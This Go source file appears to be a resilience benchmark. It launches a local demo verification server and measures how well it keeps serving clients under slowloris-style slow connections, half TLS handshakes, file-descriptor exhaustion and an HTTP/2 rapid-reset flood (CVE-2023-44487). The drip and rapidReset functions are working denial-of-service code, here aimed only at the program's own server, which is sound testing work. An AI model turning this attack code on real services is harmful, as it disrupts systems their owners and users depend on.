package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

// siege is an attack on the listener by peers without credentials.
type siege struct {
	name   string
	secure bool // the server speaks TLS
	files  int  // limit of open files of the server; 0 for the limit of this process
	peers  int
	// assault runs one peer on a connection until the connection ends.
	assault func(ctx context.Context, conn net.Conn, streams *atomic.Int64)
}

func sieges() []siege {
	return []siege{
		{name: "no attack", peers: 0},
		{name: "no attack, over TLS", secure: true, peers: 0},
		{name: "idle connections", peers: 10_000, assault: drip("", "")},
		{name: "half headers", peers: 10_000, assault: drip("POST /verify/json HTTP/1.1\r\nHost: localhost\r\n", "A: b\r\n")},
		{name: "half bodies", peers: 10_000, assault: drip("POST /verify/json HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9999\r\n\r\n", "a")},
		{name: "half handshakes", secure: true, peers: 10_000, assault: drip("\x16\x03\x01\x10\x00\x01\x00\x0f\xfc", "\x03")},
		{name: "too few files", files: 256, peers: 400, assault: drip("", "")},
		{name: "rapid reset", secure: true, peers: 20, assault: rapidReset},
	}
}

// drip sends first, and then part every second, until the server closes the connection.
func drip(first, part string) func(context.Context, net.Conn, *atomic.Int64) {
	return func(ctx context.Context, conn net.Conn, _ *atomic.Int64) {
		ended := make(chan struct{})
		go func() {
			defer close(ended)
			_, _ = io.Copy(io.Discard, conn) // until either side closes
		}()
		for text := first; ; text = part {
			if _, err := io.WriteString(conn, text); err != nil {
				break
			}
			select {
			case <-ctx.Done():
			case <-ended:
			case <-time.After(time.Second):
				continue
			}
			break
		}
		_ = conn.Close() // ends the reader
		<-ended
	}
}

// rapidReset opens streams and resets each immediately (CVE-2023-44487).
func rapidReset(ctx context.Context, raw net.Conn, streams *atomic.Int64) {
	conn := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec // its own server
	if conn.HandshakeContext(ctx) != nil {
		return
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
	const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "\x00\x00\x00\x04\x00\x00\x00\x00\x00"
	if _, err := io.WriteString(conn, preface); err != nil {
		return
	}
	const path = "/verify/json?api_key=nobody00&api_secret=wrong&number=447700900000&brand=Acme"
	block := append([]byte{0x82, 0x87, 0x41, 9}, "localhost\x04"...) // GET, https, :authority
	block = append(append(block, byte(len(path))), path...)
	const perWrite = 100
	for stream := uint32(1); stream < 1<<31-2*perWrite; {
		var frames []byte
		for range perWrite {
			frames = append(frames, 0, 0, byte(len(block)), 0x1, 0x5) // HEADERS, the only frame of the request
			frames = append(binary.BigEndian.AppendUint32(frames, stream), block...)
			frames = append(frames, 0, 0, 4, 0x3, 0) // RST_STREAM
			frames = append(binary.BigEndian.AppendUint32(frames, stream), 0, 0, 0, 8)
			stream += 2
		}
		if _, err := conn.Write(frames); err != nil {
			return
		}
		streams.Add(perWrite)
	}
}

// stronghold is a demonstration server under siege.
type stronghold struct {
	cmd      *exec.Cmd
	url, ops string
	logged   atomic.Int64 // log lines about connections and files
	ended    sync.WaitGroup
}

var urlForm = regexp.MustCompile(`https?://[0-9.:]+`)

func besiege(ctx context.Context, program string, a siege) (*stronghold, error) {
	free, err := (&net.ListenConfig{}).Listen(ctx, "tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	ops := free.Addr().String()
	if err := free.Close(); err != nil {
		return nil, err
	}
	command := fmt.Sprintf("exec %q demo --listen 127.0.0.1:0 --ops-listen %s --admin-listen '' --log-level info", program, ops)
	if a.secure {
		command += " --tls"
	}
	if a.files > 0 {
		command = fmt.Sprintf("ulimit -n %d; ", a.files) + command
	}
	s := &stronghold{cmd: exec.CommandContext(ctx, "sh", "-c", command), ops: "http://" + ops}
	stdout, err := s.cmd.StdoutPipe()
	if err != nil {
		return nil, err
	}
	stderr, err := s.cmd.StderrPipe()
	if err != nil {
		return nil, err
	}
	if err := s.cmd.Start(); err != nil {
		return nil, err
	}
	out := bufio.NewReader(stdout)
	line, err := out.ReadString('\n')
	if s.url = urlForm.FindString(line); s.url == "" {
		return nil, fmt.Errorf("start server: %w", errors.Join(err, s.cmd.Process.Kill()))
	}
	s.ended.Go(func() { _, _ = io.Copy(io.Discard, out) })
	s.ended.Go(func() {
		lines := bufio.NewScanner(stderr)
		for lines.Scan() {
			if strings.Contains(lines.Text(), "listener=") || strings.Contains(lines.Text(), "open_files=") {
				s.logged.Add(1)
				fmt.Fprintln(os.Stderr, lines.Text())
			}
		}
	})
	return s, nil
}

func (s *stronghold) stop() error {
	err := s.cmd.Process.Signal(syscall.SIGTERM)
	s.ended.Wait()
	return errors.Join(err, s.cmd.Wait())
}

// peakMemory returns the largest resident memory of the server in MB.
func (s *stronghold) peakMemory() (int, error) {
	status, err := os.ReadFile(filepath.Join("/proc", strconv.Itoa(s.cmd.Process.Pid), "status"))
	if err != nil {
		return 0, err
	}
	found := regexp.MustCompile(`VmHWM:\s+(\d+) kB`).FindSubmatch(status)
	if found == nil {
		return 0, errors.New("no VmHWM in the status of the process")
	}
	kB, err := strconv.Atoi(string(found[1]))
	return kB / 1000, err
}

// outcome is the result of a siege.
type outcome struct {
	siege                string
	clients, served      int // new clients with a key, and those answered within a second
	p50, p99             float64
	probes, ready        int // requests for /readyz, and those answered with 200
	connections, streams int64
	memory               int // MB
	logged               int64
}

// withstand runs one attack, with twenty new clients per second.
func withstand(ctx context.Context, program string, a siege, length time.Duration) (o outcome, err error) {
	s, err := besiege(ctx, program, a)
	if err != nil {
		return o, err
	}
	defer func() { err = errors.Join(err, s.stop()) }()
	_, address, _ := strings.Cut(s.url, "://")
	// Real peers are other machines, so here they run at the lowest priority, to leave the
	// processor to the server.
	peers := exec.CommandContext(ctx, "nice", "-n", "19", os.Args[0], "-peers", strconv.Itoa(a.peers), "-only", a.name, "-target", address) //nolint:gosec // itself
	peers.Stderr = os.Stderr
	var counts strings.Builder
	peers.Stdout = &counts
	stop, err := peers.StdinPipe()
	if err != nil {
		return o, err
	}
	if err := peers.Start(); err != nil {
		return o, err
	}
	pause(ctx, 5*time.Second) // until peers are connected
	o.siege = a.name
	s.measure(ctx, length, &o)
	o.logged = s.logged.Load()
	o.memory, err = s.peakMemory()
	if err := errors.Join(err, stop.Close(), peers.Wait()); err != nil {
		return o, err
	}
	_, err = fmt.Sscan(counts.String(), &o.connections, &o.streams)
	return o, err
}

// assail runs the peers of a siege against a server until stdin ends. It prints the number of
// opened connections and streams.
func assail(ctx context.Context, name string, peers int, target string, stdin io.Reader, out io.Writer) error {
	ctx, cease := context.WithCancel(ctx)
	defer cease()
	go func() {
		_, _ = io.Copy(io.Discard, stdin)
		cease()
	}()
	var connections, streams atomic.Int64
	var all sync.WaitGroup
	for _, a := range sieges() {
		if a.name != name {
			continue
		}
		for range peers {
			all.Go(func() { a.attack(ctx, target, &connections, &streams) })
		}
	}
	all.Wait()
	_, err := fmt.Fprintln(out, connections.Load(), streams.Load())
	return err
}

// attack opens connections, one at a time, until ctx is done.
func (a siege) attack(ctx context.Context, target string, connections, streams *atomic.Int64) {
	// All peers have one address, different from the clients' address.
	from := &net.Dialer{Timeout: 10 * time.Second, LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}}
	for ctx.Err() == nil {
		conn, err := from.DialContext(ctx, "tcp", target)
		if err != nil {
			pause(ctx, time.Second/10)
			continue
		}
		connections.Add(1)
		end := context.AfterFunc(ctx, func() { _ = conn.Close() })
		a.assault(ctx, conn, streams)
		end()
		_ = conn.Close() // may already be closed
	}
}

// measure starts clients, each with a new connection, and requests /readyz once a second.
func (s *stronghold) measure(ctx context.Context, length time.Duration, o *outcome) {
	var mu sync.Mutex
	var times []float64
	var all sync.WaitGroup
	for i := range int(length / (50 * time.Millisecond)) {
		all.Go(func() {
			form := url.Values{
				"api_key": {"demo0001"}, "api_secret": {"demosecret0001"}, "brand": {"Acme"}, "number": {fmt.Sprintf("4474%08d", rand.IntN(1e8))},
			}
			began := time.Now()
			ok := s.ask(ctx, s.url+"/verify/json", form)
			took := time.Since(began)
			mu.Lock()
			defer mu.Unlock()
			times = append(times, float64(took.Microseconds())/1000)
			if o.clients++; ok && took <= time.Second {
				o.served++
			}
		})
		if i%20 == 0 {
			all.Go(func() {
				ok := s.ask(ctx, s.ops+"/readyz", nil)
				mu.Lock()
				defer mu.Unlock()
				if o.probes++; ok {
					o.ready++
				}
			})
		}
		pause(ctx, 50*time.Millisecond)
	}
	all.Wait()
	slices.Sort(times)
	o.p50, o.p99 = times[len(times)/2], times[len(times)*99/100]
}

// ask makes a request on a new connection and reports whether it succeeds.
func (s *stronghold) ask(ctx context.Context, address string, form url.Values) bool {
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		DisableKeepAlives: true, TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, //nolint:gosec // its own server
	}}
	method := http.MethodPost
	if form == nil {
		method = http.MethodGet
	}
	r, err := http.NewRequestWithContext(ctx, method, address, strings.NewReader(form.Encode()))
	if err != nil {
		return false
	}
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	resp, err := client.Do(r)
	if err != nil {
		return false
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	return err == nil && resp.StatusCode == http.StatusOK && (form == nil || strings.Contains(string(body), `"status":"0"`))
}

// printSieges writes the table of the attacks on the listener.
func printSieges(out io.Writer, outcomes []outcome) error {
	lines := "| attack on the listener | connections | streams | new clients | served within 1 s | p50 / p99, ms | /readyz | peak memory, MB | log lines |\n" +
		"|---|--:|--:|--:|--:|--:|--:|--:|--:|\n"
	for _, o := range outcomes {
		lines += fmt.Sprintf("| %s | %d | %d | %d | %.1f %% | %.0f / %.0f | %d of %d | %d | %d |\n", o.siege, o.connections, o.streams,
			o.clients, 100*float64(o.served)/float64(o.clients), o.p50, o.p99, o.ready, o.probes, o.memory, o.logged)
	}
	_, err := io.WriteString(out, lines)
	return err
}
